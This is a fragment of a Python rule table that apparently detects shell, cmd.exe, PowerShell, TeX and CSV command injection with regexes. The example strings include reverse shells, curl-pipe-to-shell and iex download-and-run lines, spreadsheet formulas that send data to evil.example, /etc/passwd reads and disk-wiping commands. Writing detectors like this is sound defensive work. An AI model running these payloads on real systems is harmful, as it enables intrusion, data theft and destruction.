    _cmd("batch_compare", r"\bif\s.{0,60}?(?:%[\w:~,*-]+%|%~?\d|%%\w|\[\w*\])\S*\s*(?:===?|equ|neq|lss|leq|gtr|geq)\s", "CRS 932140: cmd.exe IF", STRONG, examples=('if not %1 == "" (',)),
    _cmd("batch_do", r"\bin\s*\([^()]{0,80}(?:\([^()]*\)[^()]*)?\)\s*do\s+[@(a-z]", "CRS 932140: cmd.exe FOR", 0.8, examples=('& FOR %@ IN (a,b,c)DO cmd',)),
    _cmd("batch_word", r"^[\s&|(]*if\s+(?:/i\s+)?(?:not\s+)?(?:\S{1,30}|\"[^\"]*\")\s+(?:equ|neq|lss|leq|gtr|geq)\s|^[\s&|(]*if\s+(?:/i\s+)?(?:not\s+)?(?:defined|errorlevel|cmdextversion)\s+\w+\s+\(?[a-z]", "CRS 932140: cmd.exe IF", STRONG, examples=('if (1) equ (1) echo hey',)),
    _cmd("batch_equal", r"^[\s&|(]*if\s+(?:/i\s+)?(?:not\s+)?(?:\"[^\"]*\"|\S{1,30})\s*===?\s*(?:\"[^\"]*\"|\S{1,30})\s+\(?(?:echo|goto|cmd|set|call|del|copy|type|start|exit|foo)\b", "CRS 932140: cmd.exe IF", CERTAIN, examples=('if a==b foo',)),
    _cmd("separator_windows", r"(?:;|\||&)\s*(?:bcdboot|bcdedit|regedit|schtasks|wevtutil|vssadmin|ntdsutil|nltest|diskpart|icacls|takeown|msiexec|odbcconf|certutil|bitsadmin|mshta|regsvr32|rundll32|wmic|tasklist|systeminfo|ipconfig|esentutl|forfiles)(?:\.exe)?\s*(?:[/<>-]|\s\w|$)", "LOLBAS", DECISIVE, examples=('| systeminfo',)),
    _cmd("interpreter_path", r"\bbin/(?:perl|python[\d.]*|ruby|php\d?|node|lua|(?:ba|z|k|c|da)?sh)\s+-\w|\bpython[\d.]*\s+-m\s+\w", _GTFO, STRONG, examples=('bin/bash -c whoami")}',)),
    _cmd("netcat_shell", r"\b(?:nc|ncat|netcat)\b[^|;&]{0,60}\s-[ec]\s+\S*(?:sh|cmd)", _PATT, STRONG, examples=('nc -lvvp 4444 -e /bin/sh',)),
    _cmd("redirect_start", r"^\s*>{1,2}\s*/\w|^\s*<\s*/(?:etc|proc|var|root|home|dev|usr|opt|srv|tmp)/\w|^\s*[<>]\(\s*[a-z]+|^\s*\$\[\s*\d", _PATT, STRONG, examples=('<(cmd)', '< /etc/hosts')),
    _cmd("batch_exist", r"^[\s&|(]*if\s+(?:/i\s+)?(?:not\s+)?exist\s+\S+\s+\(?(?:echo|goto|cmd|set|call|del|copy|type|start|exit|$)", "CRS 932140: cmd.exe IF", STRONG, examples=('IF EXIST "temp.txt" ECHO found',)),
    _cmd("ssi_exec", r"\bcmd\s*=\s*['\"]?\s*(?:cat|ls|id|dir|whoami|/|ps|wget)", _CRS, 0.9, examples=("{% set cmd = 'id' %}",)),
    _cmd("download_execute", r"\b(?:wget|curl|lwp-download|fetch|aria2c)\b[^;|&]*(?:\||;|&&)\s*(?:ba|z|da|k)?(?:sh|chmod|perl|python|php)", _PATT, STRONG, examples=('curl 198.51.100.7|sh',)),
    _cmd("batch_for", r"\bfor\s+(?:/[dflr]\s+(?:(?:\"[^\"]*\"|(?:[^\s/\"]|/[^\sdflr]|/[dflr]\S)\S*)\s+)?)*%{1,2}.?\w*\s+in\s*\(", "CRS 932140: cmd.exe FOR", CERTAIN, examples=('& FOR %@ IN (a,b,c)DO cmd',)),
    _cmd("batch_if", r"\bif\s*(?:/i\s+)?(?:not\s+)?(?:exist\s+\S+\s+(?:cmd|echo|\()|defined\s+\w+\s+(?:cmd|\(|echo|set)|errorlevel\s+\d|cmdextversion|[\[\"(]?[%!]{1,2}[~\w]+[%!]?[\])\"]?\s*(?:===?|equ|neq|lss|leq|gtr|geq)\s*\S+[^\r\n]{0,80}?\b(?:echo|goto|cmd|set|exit|do|cd|call|foo)\b|[\w\"'\[\]()]+==[\w\"'\[\]()]+[ \t]+\(?(?:echo|goto|cmd|set|exit|do|cd|call|foo)\b|\S+[ \t]+(?:equ|neq|lss|leq|gtr|geq)[ \t]+\S+[^\r\n]{0,80}?\b(?:echo|goto|cmd|set|exit|do|cd|call|foo)\b)", "CRS 932140: cmd.exe IF", CERTAIN, examples=('if a==b foo',)),
    _cmd("batch_variable", r"%~?\d\b|%\w+%.*?(?:==|\bequ\b|\bneq\b|\bgtr\b)|!\w+!|%errorlevel%", "CRS 932140", WEAK, examples=('IF "%1"=="/?" ...',)),
    _cmd("argument_injection", r"(?:^|\s)-{1,2}(?:oproxycommand|oqueuedirectory|checkpoint-action|use-compress-program|upload-pack|receive-pack|to-command|exec)\s*=|\s-x\s*/(?:var|tmp|usr|home|srv|opt)/", "CWE-88; GTFOBins", STRONG, examples=('-oProxyCommand=id',)),
    _cmd("alias", r"\balias\s+(?:[-+]\w+\+?\s+)*['\"]?[\w.-]+['\"]?=", "CRS 932 family: alias", CERTAIN, examples=('alias a=b',)),
    _cmd("glob_bracket", r"/(?:[eubrd]\w{0,5}/)+(?:\w+\[(?:[^\]]{1,4}|\[:\w{1,8}:\])\]|\[(?:[^\]]{1,4}|\[:\w{1,8}:\])\][\w?*\[])|/(?:\[[!a-z/?-]+\][a-z]{1,4}|[eub]\w?\[[!a-z/?-]+\]\w{0,3})/|/\[[^\]]*/[^\]]*\]|\w\[[a-z]/+\]", _PATT, CERTAIN, examples=('/[e///]tc',)),
    _cmd("process_substitution", r"(?:^|[^-=])[<>]\(\s*[a-z/]|\$\[\s*\d|\$\(\(|\(\$\(", _PATT, examples=('<(cmd)',)),
    _cmd("exact_command", r"^[\s'\"]*(?:whoami|ifconfig|ipconfig(?:\s*/all)?|netstat(?:\s+-\w+)?|systeminfo|tasklist|uname(?:\s+-\w+)?|ls\s+-\w+(?:\s+\S+)?|ls\s+[/.~]\S*|id\s+-\w|ps\s+-?(?:aux|ef)\w*|cat\s+\S+|ping6?\s+(?:-\w\s*\d*\s+)*[\w.-]+\.[\w.-]+|net\s+user.*|printenv|lsb_release\s+-a|route\s+print|arp\s+-a|curl\s+\S+|wget\s+\S+|nslookup\s+\S+|dir\s+[/c].*|rm\s+-rf?\s.*|chmod\s+[+\d]\S*\s.*|cd\s+[/.]\S*|echo\s+[$\d\"'].*|touch\s+/\S+|sudo\s+\S.*|kill\s+-9.*|shutdown\s+[-/]\w.*|reboot|bash\s+-i.*|crontab\s+-\w|history|id;|w;|df\s+-h|last\s+-\w.*|env\s*\|.*|type\s+\S+\.\w+|find\s+/\S*.*|tail\s+-\S+.*|head\s+-\S+.*|grep\s+-\w+\s.*|hostname\s+-\w|su\s+-.*)[\s'\";|&#]*$", _OWASP, 0.9, examples=('uname -a',)),
    _cmd("perl_open", r"\|\s*$|\bopen\s*\(\s*\w+\s*,\s*['\"]\||\bqx\s*[({/]|%x\s*[({\[]", _PATT, WEAK, examples=('||',)),
    _cmd("argument_exec", r"^[\s'\"]*(?:--(?:checkpoint-action|use-compress-program|to-command|rsh|rsh-command|rmt-command|upload-pack|receive-pack|open-files-in-pager|ext-diff|info-script|new-volume-script|post-file|body-file|use-askpass|load-extension|pager|exec|exec-path|eval|preprocessor|pre|diff-program|compress-prog)(?:=|\s)\s*\S|--checkpoint=\d+\s*$|-o\s?(?:proxycommand|localcommand|permitlocalcommand|queuedirectory)\b|-c\s+(?:core\.(?:sshcommand|pager|editor|fsmonitor|hookspath)|alias\.\w+|protocol\.ext\.allow)\s*=|--(?:output|log-?file|directory-prefix|output-document|config)=(?:/|https?:|\.\.)|-o\s*/(?:etc|var|tmp|usr|home|root|srv|opt|dev)/|-e\s+(?:sh|bash|perl|python\d?|ruby)\s)", "CWE-88; GTFOBins; tar, git, ssh, curl and rsync manuals", CERTAIN,
          prefilter=(r"[=\x0b \"']--(?:checkpoint|use-compress|to-command|rsh|rmt-command|upload-pack|receive-pack|open-files|ext-diff|info-script|new-volume|post-file|body-file|use-askpass|load-extension|pager|exec|eval|preprocessor|pre=|diff-program|compress-prog|output|log|directory-prefix|config=)", r"-o ?(?:proxyc|localc|permitl|queued)", r"-c (?:core\.|alias\.|protocol\.)", r"[=\x0b\"]-o ?/", r"[=\x0b\"]-e (?:sh|bash|perl|python|ruby)"),
          examples=("--checkpoint-action=exec=sh x.sh", "--use-compress-program=id", "-oProxyCommand=id", "-c core.sshCommand=id", "--output=/var/www/x.php")),
    Indicator("shell.formula", "csv_injection", r"^[\s'\"]*[=+@-](?:[^=\r\n][^\r\n]*)?(?:\w\|\s?['\"/]|\b(?:hyperlink|webservice|importxml|importdata|importhtml|importrange|importfeed|filterxml|dde|dderequest|ddeinitialize|rtd|call|register\.id)\s*\()", "OWASP: CSV Injection", DECISIVE,
          prefilter=(r"[=+@\"-](?:hyperlink|webservice|import(?:xml|data|html|range|feed)|filterxml|dde|rtd|call|register\.id) ?\(", r"\w\|'"),
          examples=("=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+cmd|' /C notepad'!A0", "=WEBSERVICE(\"http://evil.example/\"&A1)")),
    _cmd("leading_program", r"^[\s'\"^]*(?:;|\|\||&&|\^?&)\s*" + _PROGRAMS + r"(?:\.exe)?(?:\s|$|[|<>])", _OWASP, STRONG,
          prefilter=_BEHIND_TARGET,
          examples=("; rm x", "; sudo id", "; nc host 80", "& calc", "& del x", "^&dir", "&& git pull", "|| mv a b")),
    # A row of a Markdown table begins with a bar.
    _cmd("leading_pipe", r"^[\s'\"^]*\|\s*(?:telnet|nc|ncat|ssh|scp|s?ftp|rm|mv|cp|sudo|tar|curl|wget|bash|zsh|xargs|eval|exec|python\d?|perl|php|mailx?|tee|cmd|del|calc|dir)(?:\.exe)?(?:\s+[\w@./*\\-]|\s*$)", _OWASP, STRONG, examples=("| telnet host", "|calc", "| rm x")),
    _cmd("leading_word", r"^[\s'\"^]*(?:(?:;|\|\||&&)\s*" + _WORDED + r"(?:\.exe)?(?:" + _ONE_ARGUMENT + r"|\s*$)|\^?&\s*" + _WORDED + _ONE_ARGUMENT + r"|&\s*(?:copy|move|fc)\s+\S+\s+\S+\s*$|(?:;|\|\||&&)\s*(?:timeout|trap|eval|exec)\s+\S+\s+\S+\s*$|(?:;|\|\|?|&&?)\s*(?:mail\s+\S*@|go\s+(?:run|get|build)\s|service\s+\S+\s+(?:re)?(?:start|stop)|sc\s+(?:stop|start|create|config|delete|query)\s)|(?:;|\|\|?|&&)\s*\.?\s?(?:\.{1,2}/|~/|/(?:tmp|dev/shm|var/tmp|bin|opt|home)/)\w)", _OWASP, STRONG,
          prefilter=(r"[=\"]\^&", r"=&(?:move|copy|del|dir|echo|type|ping|net|ver|cmd|start|sh|bash|rm|cat|ls|id|cp|mv|nc|wget|curl|sc|fc|md|rd|sudo) ", r"=& (?:move|less|more|source|script|watch|write|read|go|cd|at|split|cut|sc|fc|md|rd) \S"),
          examples=("; mail a@e.vil < x", "; go run x", "& move a b", "; make", "; find x", "; kill 1", "; su -", "& start calc", "; ./x", "; . /tmp/x", "&& ./x", "& copy a b")),
    _cmd("target_program", r"^(?:" + _TARGET + r"\s*(?:;|\|\|?|&&?)|\w{1,2}\s*(?:;|\|\|?|&&)|[\w.:/-]+\$\()\s*" + _PROGRAMS + r"(?:\.exe)?(?:\s|$|[|<>])", _OWASP, CERTAIN,
          examples=("127.0.0.1; rm x", "127.0.0.1 & calc", "127.0.0.1|telnet e.vil 80", "a.txt; rm x", "8.8.8.8 && sudo id", "x;git pull", "x$(rm a)")),
    _cmd("word_program", r"^\w{3,24}\s*(?:;|\|\|?|&&)\s*(?:rm|mv|nc|ncat|telnet|sudo|chmod|chown|wget|dd|xargs|mkdir|rmdir|pkill|killall|nohup)\s+[\w@./*-]", _OWASP, CERTAIN, examples=("shop; rm x", "shop|nc host 80", "shop && sudo id")),
    _cmd("line_program", r"^[\w.:/-]*[\r\n]+[ \t]*(?:sudo[ \t]+)?(?:exec|eval|timeout|nice|command|" + _PROGRAMS + r")[ \t]+[\w@./*$-]", _OWASP, 0.5,
          prefilter=_BEHIND_LINE, examples=("x\nrm a", "x\nsudo id", "\nnc host 80", "127.0.0.1\ngit pull")),
    _cmd("target_word", r"^(?:" + _TARGET + r"|\w{1,2})\s*(?:(?:;|\|\||&&)\s*" + _WORDED + r"(?:" + _ONE_ARGUMENT + r"|\s*$)|(?:;|\|\|?|&&)\s*\.?\s?(?:\.{1,2}/|~/|/(?:tmp|dev/shm|var/tmp|bin|opt|home)/)\w)", _OWASP, 0.9,
          prefilter=(r"[=\x0b\"][\w.:/-]+ ?(?:;|\|\||&&) ?(?:less|more|source|script|screen|history|exit|watch|wall|write)(?:[ \x0b\"]|$)", r"[=\x0b\"][\w.:/-]+ ?(?:;|\|\|) ?(?:service|go|move|read|which|ed|mail|vol|assoc|cd)(?:[ \x0b\"]|$)", r"[=\x0b\"][\w.:/-]+ ?(?:;|\|\|?|&&) ?(?:\. )?(?:\.{1,2}/|~/|/tmp/)"),
          examples=("x;su -", "x||make", "127.0.0.1;halt", "x; ./x")),
    _cmd("powershell_alias", r"\biex\s*\(\s*(?:iwr|irm|curl|wget|invoke-\w+|new-object|\$\w|['\"\[(])|\b(?:iwr|irm|curl|wget|gc)\s+[^\s|]+\s*(?:-\w+\s*)*\|\s*iex\b|\(\s*(?:iwr|irm|gc|gcm)\s[^()\s]+\s*\)\s*\.|&\s*\(\s*(?:gcm|gal|get-command|get-alias)\b|\[(?:system\.)?diagnostics\.process\]\s*::\s*start", "PowerShell documentation: aliases and the call operator", CERTAIN,
          prefilter=(r"iex ?\( ?(?:iwr|irm|curl|wget|invoke-|new-|\$|['\"\[(])", r"\| ?iex(?:$|[\x0b&\" ;)])", r"\( ?(?:iwr|irm|gcm?|gal|get-(?:command|alias)) ", r"diagnostics\.process\]"),
          examples=("iex(iwr e.vil)", "iwr e.vil|iex", "&(gcm i*x)", "(iwr e.vil).content", "[System.Diagnostics.Process]::Start('calc')")),
    _cmd("powershell_line", r"^[\s'\"]*(?:invoke-(?:webrequest|expression|command|restmethod|wmimethod|item)|start-process|iwr|irm|iex)\s+(?:-[a-z]{2,}\s+)?['\"(]?(?:https?://|\$|[\w./:\\-]+\.(?:ps1|psm1|exe|bat|vbs|dll|hta)\b)", _GTFO, STRONG, examples=("Invoke-WebRequest http://e.vil/x.ps1", "Invoke-Expression -Command file.ps1")),
    _cmd("registry_command", r"\breg(?:\.exe)?\s+(?:add|query|delete|save|export)\s+['\"]?hk(?:lm|cu|cr|u|ey_)", "LOLBAS", CERTAIN, examples=('; reg add "HKLM\\System" /v a',)),
    _cmd("separator_variable", r"(?:^|[\s;])(?:\||&&?|;)\s*(?:type|dir|copy|more|del|start|call)\s+['\"]?%[a-z]{3,20}%", _PATT, CERTAIN, examples=("| type %SYSTEMROOT%\\repair\\SYSTEM",)),
    _cmd("inline_program", r"^[\s;|&'\"]*(?:/usr)?(?:/local)?/bin/(?:perl|python[\d.]*|ruby|php\d?|node|lua|g?awk)\s+-[a-z]{0,3}[cer]\s+['\"]", _GTFO, CERTAIN, examples=("/usr/bin/perl -e 'print readline' a.txt",)),
    # A line break at both ends, or a quote: what lists of payloads put around a command.
    _cmd("broken_line", r"^['\"]?(?:[\r\n]|\\[nr])+\s*(?:/(?:usr/)?s?bin/\w+|id|ls|whoami|uname|cat)(?:[ \t]+-\w{1,6})?\s*(?:(?:[\r\n]|\\[nr])+['\"]?|[;|&]\s*|['\"])$|^\s*(?:;|\|)\s*(?:/?(?:usr/)?bin/)?(?:id|ls|ps|pwd|whoami|uname|env)(?:[ \t]+-\w{1,6})?(?:[\r\n]|\\[nr])+['\"]?$", _PATT, STRONG, examples=("\\n/bin/ls -al\\n", "\n/usr/bin/id\n", "\\nid;", ";id\\n", "|usr/bin/id\\n")),
    _cmd("edge_comparison", r"^\s*(?:\|\||&&)\s*['\"]?\w{1,8}['\"]?\s*={1,3}\s*['\"]?\w{1,8}\s*(?:/{2}.*|--.*|#.*|;.*|%?\x00.*|['\"].*)?$", _PATT, STRONG, examples=("|| 1==1",)),
    _cmd("word_signal", r"^[\w.-]{1,40}\s*(?:;|\|\|?|&&)\s*(?:kill\s+(?:-\w{1,8}\s+)?\d{1,7}|(?:shutdown|halt|reboot|poweroff)(?:\s+(?:now|-\w{1,8}))?|touch\s+[\w./-]+)\s*$", _OWASP, STRONG, examples=("foo; kill 1", "foo && kill -9 1", "foo; halt", "foo; touch x")),
    _cmd("batch_argument", r"\bif\s+(?:/i\s+)?(?:not\s+)?(?:\"%~?\d\"|\[%~?\d\]|%~?\d)\s*==", "CRS 932140: cmd.exe IF", STRONG, examples=('IF "%~1"=="/?" ...', "IF [%1]==[/?] ...")),
    _cmd("first_command", r"^[\s'\"]*(?:whoami|ifconfig|ipconfig|netstat|systeminfo|tasklist|uname|printenv|lsb_release)(?:\.exe)?(?:\s+[-/]\w{1,8})?\s*(?:;|\|\|?|&&?)\s*\S", _OWASP, 1.45, prefilter=(r"(?:whoami|ifconfig|ipconfig|netstat)(?: [-/]\w{1,8})? ?[;|&]", r"(?:systeminfo|tasklist|uname|printenv)(?: [-/]\w{1,8})? ?[;|&]"), examples=("whoami;0", "netstat -an | x", "uname -a && y")),
    _cmd("substituted_file", r"\$\(\s*[<>]{1,2}\s*[\w./~$*?-]|^\S{0,40}`\s*[<>]{1,2}\s*[\w./~$-]{1,60}\s*`\S{0,20}$", "bash manual: command substitution of a file", CERTAIN, prefilter=(r"` ?[<>] ?[\w./~$-]",), examples=("$(< /etc/passwd)", "$(<config.py)", "$(>x)", "`<x`")),
    _cmd("variable_program", r"^[\w.:/-]{0,40}\s*(?:;|\|\|?|&&?)\s*[\"']?\$\{?(?:0|shell|bash|path|home|pwd|oldpwd|_|@)\}?[\"']?(?:[\s/;|&<]|$)", "bash manual: special parameters", CERTAIN, prefilter=(r"[;|&] ?['\"]?\$\{?(?:0|shell|bash|path|home|pwd|oldpwd)",), examples=(";$0 /tmp/x", "|$0", ";$SHELL x", "x;${HOME}/a")),
    # Programs that are not in the lists above, with an argument.
    _cmd("target_other", r"^(?:" + _TARGET + r"|\w{1,2})?\s*(?:;|\|\|?|&&?)\s*(?:sudo\s+)?(?:busybox|[kt]?csh|fish|expect|stdbuf|flock|chroot|nsenter|unshare|deno|bun|emacs|poweroff|init\s\d|fdisk|lsblk|dmesg|nginx|apachectl|django-admin|manage\.py|aws|gcloud|az|terraform|helm|smbclient|rclone|strings|fmt|uniq|shuf|tsort|comm|wc|md5sum|sha\d{1,3}sum|cksum|shred|iconv|hexdump|hd|b?zcat|xzcat|bzip2|xz|dc|bc|yes|rev|pr|ionice|taskset|sshpass|mosh|mkfs[\w.]{0,6}|mktemp|realpath|readlink|timeout\s+\d|go\s(?:run|build)|service\s\w+\s(?:re)?st(?:art|op))(?:\s+[-\w./~@$*'\"]|\s*[<>]|\s*$)|^(?:" + _TARGET + r"|\w{1,2})?\s*(?:;|\|\|?|&&?)\s*(?:watch|stat|paste|diff|cut|file|units|fold|expand|column|install|truncate|nice)(?:\s+[\w./~-]+|\s+[\w./]\s+[\w./])\s*$", _GTFO, 1.15,
         prefilter=(r"[=\x0b\"][\w.:/-]* ?(?:;|\|\|?|&&?) ?(?:busybox|[kt]?csh|fish|expect|nice|stdbuf|flock|chroot|nsenter|unshare)(?:[ \x0b\"]|$)", r"[=\x0b\"][\w.:/-]* ?(?:;|\|\|?|&&?) ?(?:deno|bun|emacs|poweroff|init|fdisk|lsblk|dmesg|nginx|apachectl)", r"[=\x0b\"][\w.:/-]* ?(?:;|\|\|?|&&?) ?(?:django-admin|manage|aws|gcloud|az|terraform|helm|smbclient|rclone|strings|fold|fmt) ", r"[=\x0b\"][\w.:/-]* ?(?:;|\|\|?|&&?) ?(?:expand|uniq|shuf|tsort|column|comm|wc|md5sum|sha\d+sum|cksum|shred|truncate|install) ",
                    r"[=\x0b\"][\w.:/-]* ?(?:;|\|\|?|&&?) ?(?:iconv|hexdump|hd|b?zcat|xzcat|bzip2|xz|dc|bc|units|yes|rev|pr|ionice|taskset)[ <>]", r"[=\x0b\"][\w.:/-]* ?(?:;|\|\|?|&&?) ?(?:watch|sshpass|mosh|mkfs|mktemp|realpath|readlink|stat|paste|diff|cut|file|timeout) ", r"[=\x0b\"][\w.:/-]* ?(?:;|\|\|?|&&?) ?(?:\./|sudo )"),
         examples=(";yes>/dev/sda", ";rev x", "x;busybox sh", "x;csh x", "x;timeout 9 x", "x;poweroff", "x;init 0", "x;aws s3 ls", "x;file x", "x;diff x y", "127.0.0.1|fold x")),
    _cmd("own_script", r"^(?:(?:" + _TARGET + r")?\s*(?:;|\|\|?|&&)|\w{1,2}\s*(?:;|\|\||&&))\s*(?:sudo\s+)?\.{1,2}/[\w./-]{1,60}(?:\s|$)", _GTFO, CERTAIN, examples=("x;./manage.py flush", "; ../run.sh")),
    _cmd("line_signal", r"^[\w.:/@-]{1,60}[\r\n]+[ \t]*(?:reboot|poweroff|halt|shutdown(?:[ \t]+\S{1,12})?|init[ \t]\d|touch[ \t]+[\w./-]{1,60}|kill[ \t]+-?\w{1,8}(?:[ \t]+\d+)?|mkdir[ \t]+[\w./-]{1,60}|rmdir[ \t]+[\w./-]{1,60}|env|printenv|id|whoami|uname|ps|ls)[ \t\r\n]*$", _OWASP, 0.7,
         prefilter=(r"(?:\n|\r|\\n|\\r)[ \t]*(?:reboot|poweroff|halt|shutdown|init \d|touch [\w./]|kill -?\w|mkdir [\w./]|rmdir [\w./])",), examples=("1.2.3.4\nreboot", "a\ntouch x", "1.2.3.4\r\ninit 0")),
    # One program has many spellings for a shell, and what is before it is grammar.
    _cmd("quoted_name", _BEGUN + r"(?:'" + _KNOWN + r"'|\"" + _KNOWN + r"\"|\\" + _KNOWN + r"|\\[a-mo-qsu-z](?:\\[a-z])+|'[a-z]{1,3}'[a-z]+|[a-z]+'(?:[a-mo-z]|[a-z]{2,3})'[a-z]*|\"[a-z]{1,3}\"[a-z]+|[a-z]{1,3}\\[a-mo-qsu-z][a-z]{0,3}|\$'[\w\\]+')(?:\s+[\w./~$*'\"-]|\s*[<>])", "POSIX, Shell Command Language 2.2: quoting", CERTAIN,
         prefilter=(*_QUOTED, r"[;|&] ?\$'[\w\\]+'"), examples=("x;'cat' f", 'x;"cat" f', "x;\\cat f", "x;\\c\\a\\t f", "$(\\cat f)", "x;'c'at f", "x;c\\at f", "x;$'cat' f", "shop;'cat' f")),
    _cmd("expanded_name", _BEGUN + r"(?:[a-z/]+\$\{\w+\}[a-z/]+|\$\{\w*:?[-=][\w/]+\}|/(?:[a-z]+/)*[a-z]*[?*\[][\w?*\[\]/]*|(?:\w+=[^\s;]*;\s*)+\$\w+(?:\$\w+)*)(?:\s+[\w./~$*-]|\s*[<>]|\s*$)", "POSIX, Shell Command Language 2.6: word expansions", CERTAIN,
         prefilter=(r"[;|&] ?\w{1,12}=[^\s\x0b;]*; ?\$", r"=[^\s\x0b;]*; ?\$\w+(?:[\x0b\"]|\$| [\w./-])"), examples=("x;c${z}at f", "x;${x:-cat} f", "x;/usr/bin/c?t f", "x;a=s;b=h;$a$b x", "x;IFS=,;a=sh,x;$a")),
    _cmd("words_before_program", _BEGUN + r"[({]?\s*" + _WORDS_BEFORE + r"+(?:" + _KNOWN + r"(?:" + _ENDED + r"|$)|\.{1,2}/\w)|" + _SEPARATED + r"[({]\s*(?:" + _KNOWN + r"\s+[-\w./~]|\.{1,2}/\w)", "POSIX, Shell Command Language 2.9: shell commands", CERTAIN,
         prefilter=(*_REDIRECTED, r"[;|&] ?! ?\w", r"[;|&] ?(?::|true ?[|&]|false ?[|&]) ?[;|&\w]", r"[;|&] ?(?:if|while|until) [\w./]", r"[;|&] ?(?:command|builtin|coproc|setsid|nice|nohup|eval|exec) [\w./-]", r"[;|&] ?function \w+ ?\{", *(rf"[;|&]{opened} ?(?:\.|cat|curl|wget|nc|rm|sh|bash|python|perl|ls|cp|mv)" for opened in (r"\(", r"\{")), *(r"[;|&] ?\w+=[^\s\x0b;&]*(?: \w+=[^\s\x0b;&]*)* " + name for name in (r"(?:cat|tac|curl|wget|bash|python|perl|php|env)\b", r"(?:nc|rm|sh|ls|cp|mv|id|dd)(?:[ \x0b&\"]|$)"))), examples=("x;exec cat f", "x;command cat f", "$(command cat f)", "x;<f cat", "x;2>&1 cat f", "x;if cat f;then :;fi", "x;f(){ cat f;};f", "x;function f { cat f; };f", "x;(./x &)", "x;A=1 ls f", "x;A=1 B=2 cat f", "x;! cat f", "x;:|cat f", "x;nice -n 5 cat f", "x;< f sort", "x;>f echo x", "shop;exec cat f")),
    _cmd("shell_setting", _SEPARATED + r"(?:(?:export\s+)?(?:(?:ld_preload|ld_library_path|prompt_command|bash_env|ps4)=\S|path=\S*\$\{?path)|trap\s+\S+\s+(?:exit|debug|err|int|term|\d)|(?:mapfile|readarray)\s+\w+\s*<|case\s+\S+\s+in\s+\S+\)|(?:for|select)\s+\w+\s+in\s[^;]*;\s*do\s|\[{1,2}\s+-[a-z]\s|:\s+(?:\$\(|`)|\.\s+[\w./-]+\s*$)", "bash manual: shell variables and builtin commands", CERTAIN,
         prefilter=(r"(?:mapfile|readarray) \w+ ?<", r"[;|&] ?case \S+ in [^\s)]+\)", *(rf"{mark}{word} \w+ in " for mark in _MARKS for word in ("for", "select")), r"[;|&] ?\[{1,2} -[a-z] ", r"[;|&] ?: (?:\$\(|`)", r"[;|&] ?\. [\w./-]+(?:[\x0b\"&]|$)", r"[;|&] ?(?:export )?(?:prompt_command|bash_env|ps4|ld_preload|ld_library_path)="), examples=("a && LD_PRELOAD=./x.so id", "x;PROMPT_COMMAND=sh", "x;PATH=.:$PATH id", "x;trap sh EXIT", "x;mapfile a<f", "x;. x", "x;case x in x) cat f;;esac", "x;for i in *;do cat $i;done", "x;[ -f x ]&&cat f", "x;: $(cat f)")),
    # Markdown writes programs like this, too, but no name or number is one (priors.py).
    _cmd("ticked_words", r"^`\s*[a-z][\w.-]*\s+[^`\r\n]+`\s*$", _CWE, 0.5, examples=("`etcdctl get x`",)),
    # TeX runs programs through stream 18 and pipes, and reads and writes files of the server.
    _cmd("tex_program", r"\\(?:write ?18|shellescape|directlua|luaexec) ?\{|\\input ?\{? ?\||\\csname (?:input|write|openin|immediate)\\endcsname|\\special ?\{psfile=[`|]", _TEX, CERTAIN,
         prefilter=("write ?18 ?\\{", "shellescape ?\\{", "directlua ?\\{", "luaexec ?\\{", r"input ?\{? ?\|", "psfile=[`|]", "csname (?:input|write|openin|immediate)"),
         examples=("\\immediate\\write18{id}", "\\input{|id}", "\\ShellEscape{id}", "\\directlua{x()}", "\\special{psfile=`id}", "\\csname input\\endcsname{x}")),
    _cmd("tex_file", r"(?:listing|verbatiminput|\\input|\\include)[^{}\n]*\{ ?/(?:etc|proc|root|var)/|\\pdffiledump|\\openout[^={}\n]*=[\w./ ]+\.(?:php|sh|jsp|html)", _TEX, CERTAIN, prefilter=("lstinputlisting", "verbatiminput", "openout", "pdffiledump"),
         examples=("\\lstinputlisting{/etc/passwd}", "\\usepackage{verbatim}\\verbatiminput{/etc/passwd}", "\\immediate\\openout3=x.php", "\\pdffiledump offset 0 length 9 {/etc/passwd}")),
    _cmd("box_shell", r"(?:^|[\s;|&`(=/])(?:busybox|toybox)(?:\s+\w+)?\s+-c\s", _GTFO, CERTAIN, prefilter=("toybox -c", r"toybox \w", "busybox -c"), examples=("busybox sh -c id", "toybox -c x")),
    # "$(in millions)" heads a column of money.
    _cmd("substituted_words", r"^[\w.:/@-]*\s?\$\(\s*(?:[a-hj-z_]|i[a-mo-z]|in\w)[\w.-]*\s+[^\s()][^()]*\)[\w.:/-]*$|^[\w.:/@-]+`\s*[a-z][\w.-]*\s+[^\s`][^`]*`[\w.:/-]*$|^`\s*[a-z][\w.-]*\s+(?:\w+\s+)*(?:-\w|[\w.]*[/~$*]|\w+\.\w)[^`]*`$", _CWE, CERTAIN,
         prefilter=("`\"", "`&", "`\x0b"), examples=("$(etcdctl get x)", "x$(vault read y)", "x`vault read y`", "`objdump -d x`")),
)
